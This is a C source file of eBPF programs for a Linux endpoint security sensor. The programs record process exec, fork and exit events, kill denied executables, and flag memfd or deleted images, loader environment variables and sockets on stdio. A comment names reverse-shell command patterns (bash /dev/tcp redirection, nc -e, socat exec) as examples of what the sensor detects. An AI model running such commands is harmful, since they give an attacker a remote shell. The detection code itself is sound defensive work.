// SPDX-License-Identifier: GPL-2.0
/*
 * Process sensor: exec, fork (new processes, not threads) and exit (the last thread).
 * Typed tp_btf tracepoints: cheap, fire once per event, and give us the kernel's own
 * objects (linux_binprm, task_struct) instead of syscall arguments.
 */
#include "vigil.bpf.h"
#include "path.bpf.h"
#include "kill.bpf.h"
#include "vigil/enforce.h"

char LICENSE[] SEC("license") = "GPL";

#define EXEC_DATA_SIZE (4 * VIGIL_PATH_MAX)

struct exec_scratch {
	struct vigil_exec_event ev;
	char data[EXEC_DATA_SIZE];
};

struct {
	__uint(type, BPF_MAP_TYPE_PERCPU_ARRAY);
	__uint(max_entries, 1);
	__type(key, __u32);
	__type(value, struct exec_scratch);
} exec_scratch SEC(".maps");

/*
 * Executables whose new image is killed before it runs (in the kill scope: kill.bpf.h):
 * enforced exec kill rules, and exec deny rules where BPF LSM is missing. Value: the rule's
 * index.
 */
struct {
	__uint(type, BPF_MAP_TYPE_HASH);
	__uint(max_entries, 4096);
	__type(key, struct vigil_deny_key);
	__type(value, __u32);
} exec_kill SEC(".maps");

/*
 * SIGKILL the new image if its file is in exec_kill and the task in the kill scope; the rule's
 * index in *rule. True only when the signal was sent.
 */
static __always_inline bool kill_at_exec(struct linux_binprm *bprm, __u32 *rule)
{
	struct inode *inode = BPF_CORE_READ(bprm, file, f_inode);
	struct vigil_deny_key key = {
		.inode = BPF_CORE_READ(inode, i_ino),
		.dev = BPF_CORE_READ(inode, i_sb, s_dev),
	};
	__u32 *r = bpf_map_lookup_elem(&exec_kill, &key);

	/* pending before the return to user space: the image never runs an instruction */
	if (!r || is_self() || !kill_current())
		return false;
	*rule = *r;
	return true;
}

static __always_inline bool is_kthread(struct task_struct *task)
{
	return BPF_CORE_READ(task, flags) & PF_KTHREAD;
}

#define TMPFS_MAGIC	0x01021994
#define HUGETLBFS_MAGIC 0x958458f6

/* Whether the @len bytes at @s start with @prefix (@plen bytes). */
static __always_inline bool has_prefix(const char *s, __u32 len, const char *prefix, __u32 plen)
{
	if (len < plen)
		return false;
	for (__u32 i = 0; i < plen; i++)
		if (s[i] != prefix[i])
			return false;
	return true;
}

/*
 * Where the executed file lives, from its dentry: a memfd is a pseudo file (its own root, in
 * no directory) on the kernel's internal tmpfs or hugetlbfs mount, named "memfd:..."; a
 * file named so on a visible tmpfs has a parent directory and is not one. "deleted" is the
 * kernel's d_unlinked(). "shm" from the resolved path, which the caller does not choose.
 */
static __always_inline __u16 exe_flags(struct file *file, const char *exe, __u32 exe_len)
{
	struct dentry *dentry = BPF_CORE_READ(file, f_path.dentry);
	unsigned long magic = BPF_CORE_READ(dentry, d_sb, s_magic);
	struct qstr name = BPF_CORE_READ(dentry, d_name);
	char prefix[8] = {};
	__u16 flags = 0;

	if (dentry == BPF_CORE_READ(dentry, d_parent)) {
		if ((magic == TMPFS_MAGIC || magic == HUGETLBFS_MAGIC) && name.len > 6 &&
		    !bpf_probe_read_kernel(prefix, 6, name.name) &&
		    has_prefix(prefix, 6, "memfd:", 6))
			flags |= VIGIL_EXE_MEMFD;
	} else if (!BPF_CORE_READ(dentry, d_hash.pprev)) {
		flags |= VIGIL_EXE_DELETED;
	}
	if (has_prefix(exe, exe_len, "/dev/shm/", 9))
		flags |= VIGIL_EXE_SHM;
	return flags;
}

static __always_inline bool inet_sock(struct sock *sk)
{
	__u16 family;

	if (!sk)
		return false;
	family = BPF_CORE_READ(sk, __sk_common.skc_family);
	return family == AF_INET || family == AF_INET6;
}

/*
 * What fd @fd of the new image is, read from current's fd table as the exec completes (the
 * close-on-exec fds are gone: it is the new image's): true for an inet or inet6 socket, as a
 * reverse shell has (bash -i >& /dev/tcp/host/port 0>&1, nc -e, socat exec); a pipe or FIFO
 * gives its inode in @dev and @ino, which the other end shares (a decoder piped into a
 * shell). Unix sockets (a service's stdout to journald) are neither. Cost on every exec: a
 * slot read and the inode's mode; a pipe adds two reads, a socket three.
 */
static __always_inline bool stdio_fd(long fd, __u32 *dev, __u64 *ino)
{
	struct file *file = fd_file(fd);
	struct inode *inode;
	struct socket *sock;
	umode_t mode;

	*dev = 0;
	*ino = 0;
	if (!file)
		return false;
	inode = BPF_CORE_READ(file, f_inode);
	mode = BPF_CORE_READ(inode, i_mode) & S_IFMT;
	if (mode == S_IFIFO) {
		*ino = BPF_CORE_READ(inode, i_ino);
		*dev = BPF_CORE_READ(inode, i_sb, s_dev);
		return false;
	}
	if (mode != S_IFSOCK)
		return false;
	sock = BPF_CORE_READ(file, private_data);
	return inet_sock(sock ? BPF_CORE_READ(sock, sk) : NULL);
}

/* stdin and stdout of the new image: their pipes in @ev, and VIGIL_EXE_STDIO_SOCKET. */
static __always_inline __u16 stdio_flags(struct vigil_exec_event *ev)
{
	bool in = stdio_fd(0, &ev->stdin_dev, &ev->stdin_ino);
	bool out = stdio_fd(1, &ev->stdout_dev, &ev->stdout_ino);

	return in || out ? VIGIL_EXE_STDIO_SOCKET : 0;
}

/*
 * The dynamic loader's variables that load code into the new image, found among its envp
 * pointers (on the new stack, above argc and argv): a pointer and a 16-byte read per variable,
 * on every exec; an environment has a few dozen.
 */
#define ENV_SCAN_MAX 4096

static const char ld_names[3][17] = { "LD_PRELOAD=", "LD_LIBRARY_PATH=", "LD_AUDIT=" };

struct env_scan {
	__u64 envp;	/* user address of envp[0] */
	__u64 found[3]; /* user addresses of the ld_names strings, 0 when absent */
};

static __always_inline bool starts_with(const char *s, const char *prefix)
{
#pragma unroll
	for (int i = 0; i < 16; i++) {
		if (!prefix[i])
			return true;
		if (s[i] != prefix[i])
			return false;
	}
	return true;
}

static long env_step(__u64 i, struct env_scan *c)
{
	char head[17] = {};
	__u64 p;

	if (bpf_probe_read_user(&p, sizeof(p), (void *)(c->envp + i * 8)) || !p)
		return 1;
	if (bpf_probe_read_user_str(head, sizeof(head), (void *)p) < 4 || head[0] != 'L' ||
	    head[1] != 'D' || head[2] != '_')
		return 0;
#pragma unroll
	for (int k = 0; k < 3; k++)
		if (!c->found[k] && starts_with(head, ld_names[k]))
			c->found[k] = p;
	return 0;
}

/* Append the loader's variables of the new image at @off of @s->data; returns their bytes. */
static __always_inline __u32 loader_env(struct exec_scratch *s, struct task_struct *task,
					struct linux_binprm *bprm, __u32 off)
{
	struct env_scan c = {};
	__u32 envc = BPF_CORE_READ(bprm, envc), len = 0;

	/* start_stack is at argc, then argv[argc] and its NULL, then envp */
	c.envp = BPF_CORE_READ(task, mm, start_stack) + 8 * ((__u64)BPF_CORE_READ(bprm, argc) + 2);
	bpf_loop(envc < ENV_SCAN_MAX ? envc : ENV_SCAN_MAX, env_step, &c, 0);
#pragma unroll
	for (int k = 0; k < 3; k++) {
		__u32 o = off + len;
		long n;

		if (!c.found[k])
			continue;
		if (o > EXEC_DATA_SIZE - VIGIL_LD_VALUE_MAX)
			break;
		n = bpf_probe_read_user_str(s->data + o, VIGIL_LD_VALUE_MAX, (void *)c.found[k]);
		if (n > 0)
			len += n;
	}
	return len;
}

SEC("tp_btf/sched_process_exec")
int BPF_PROG(handle_exec, struct task_struct *task, pid_t old_pid, struct linux_binprm *bprm)
{
	struct exec_scratch *s;
	struct vigil_exec_event *ev;
	unsigned long arg_start, arg_end;
	__u32 zero = 0, off, len;
	bool truncated;
	__u16 flags = 0;

	s = bpf_map_lookup_elem(&exec_scratch, &zero);
	if (!s)
		return 0;
	ev = &s->ev;
	ev->deny_rule = 0;
	if (kill_at_exec(bprm, &ev->deny_rule))
		flags |= VIGIL_EXEC_KILLED;
	ev->hdr.type = VIGIL_EV_EXEC;
	ev->hdr.time_ns = bpf_ktime_get_boot_ns();
	fill_task(&ev->task, task);
	ev->argc = BPF_CORE_READ(bprm, argc);

	/* The file the kernel actually opened and mapped, not the name the caller gave. */
	off = append_path(s->data, 0, &bprm->file->f_path, &truncated);
	ev->exe_len = off;
	if (truncated)
		flags |= VIGIL_EXEC_EXE_TRUNCATED;
	ev->exe_flags = exe_flags(BPF_CORE_READ(bprm, file), s->data, off) | stdio_flags(ev);
	if (ev->exe_flags & VIGIL_EXE_MEMFD) {
		/* A memfd is in no directory (the walk gives "/"): its name is "memfd:<name>". */
		long n = bpf_probe_read_kernel_str(
			s->data, PATH_NAME_MAX + 1,
			BPF_CORE_READ(bprm, file, f_path.dentry, d_name.name));

		off = n > 1 ? n - 1 : 0;
		ev->exe_len = off;
	}

	len = append_path(s->data, off, &task->fs->pwd, &truncated);
	ev->cwd_len = len;
	off += len;
	if (truncated)
		flags |= VIGIL_EXEC_CWD_TRUNCATED;

	/* argv as the kernel just copied it onto the new stack. */
	arg_start = BPF_CORE_READ(task, mm, arg_start);
	arg_end = BPF_CORE_READ(task, mm, arg_end);
	len = arg_end > arg_start ? arg_end - arg_start : 0;
	if (len > VIGIL_ARGS_MAX) {
		len = VIGIL_ARGS_MAX;
		flags |= VIGIL_EXEC_ARGS_TRUNCATED;
	}
	if (len && bpf_probe_read_user(s->data + (off & (2 * VIGIL_PATH_MAX - 1)), len,
				       (void *)arg_start)) {
		len = 0;
		flags |= VIGIL_EXEC_ARGS_FAULT;
	}
	ev->args_len = len;
	off += len;
	len = loader_env(s, task, bprm, off);
	ev->env_len = len;
	off += len;

	ev->hdr.flags = flags;
	ev->hdr.size = sizeof(*ev) + off;
	emit_fitting(s, ev->hdr.size, sizeof(*s), EMIT_RESERVED);
	return 0;
}

SEC("tp_btf/sched_process_fork")
int BPF_PROG(handle_fork, struct task_struct *parent, struct task_struct *child)
{
	struct vigil_fork_event ev = {};

	/* Threads share their process's identity; kernel threads are not processes here. */
	if (BPF_CORE_READ(child, pid) != BPF_CORE_READ(child, tgid) || is_kthread(child))
		return 0;
	ev.hdr.type = VIGIL_EV_FORK;
	ev.hdr.size = sizeof(ev);
	ev.hdr.time_ns = bpf_ktime_get_boot_ns();
	fill_task(&ev.task, child);
	emit_as(&ev, sizeof(ev), EMIT_RESERVED);
	return 0;
}

/*
 * Processes whose exit was reported, by (tgid, start time): a thread that finishes exiting
 * after the leader can pass the test below too, and must not report the exit again.
 */
struct exited_key {
	__u32 tgid;
	__u32 pad;
	__u64 start_ns;
};

struct {
	__uint(type, BPF_MAP_TYPE_LRU_HASH);
	__uint(max_entries, 16384);
	__type(key, struct exited_key);
	__type(value, __u8);
} exited SEC(".maps");

SEC("tp_btf/sched_process_exit")
int BPF_PROG(handle_exit, struct task_struct *task)
{
	struct vigil_exit_event ev = {};
	struct exited_key key = {};
	__u8 one = 1;

	struct task_struct *leader = BPF_CORE_READ(task, group_leader);

	/*
	 * signal->live reaches zero when the last thread of the group is exiting. A thread that
	 * was joined just before exit_group() may still be passing here then: while the leader
	 * has not finished exiting itself, the leader is the one to report (with the group's
	 * exit code).
	 */
	if (BPF_CORE_READ(task, signal, live.counter) != 0 || is_kthread(task) ||
	    (task != leader && !BPF_CORE_READ(leader, exit_state)))
		return 0;
	key.tgid = BPF_CORE_READ(task, tgid);
	key.start_ns = BPF_CORE_READ(leader, start_boottime);
	if (bpf_map_update_elem(&exited, &key, &one, BPF_NOEXIST))
		return 0; /* reported already, by the thread group's leader */
	ev.hdr.type = VIGIL_EV_EXIT;
	ev.hdr.size = sizeof(ev);
	ev.hdr.time_ns = bpf_ktime_get_boot_ns();
	fill_task(&ev.task, task);
	ev.status = BPF_CORE_READ(task, exit_code);
	ev.duration_ns = ev.hdr.time_ns - ev.task.start_ns;
	emit_as(&ev, sizeof(ev), EMIT_RESERVED);
	return 0;
}
